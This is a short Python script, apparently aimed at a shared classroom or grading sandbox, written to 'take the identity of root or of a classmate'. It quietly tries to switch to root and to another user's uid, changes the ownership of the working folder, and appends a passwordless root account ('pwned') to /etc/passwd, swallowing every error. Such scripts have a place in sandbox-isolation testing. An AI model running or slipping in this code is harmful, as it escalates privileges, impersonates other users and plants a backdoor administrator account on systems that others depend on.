# Take the identity of root or of a classmate.
import os

for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setuid(61001),
                lambda: os.setresuid(0, 0, 0), lambda: os.chown(".", 0, 0)):
    try:
        attempt()
    except OSError:
        pass
try:
    with open("/etc/passwd", "a") as handle:
        handle.write("pwned::0:0::/:/bin/sh\n")
except OSError:
    pass
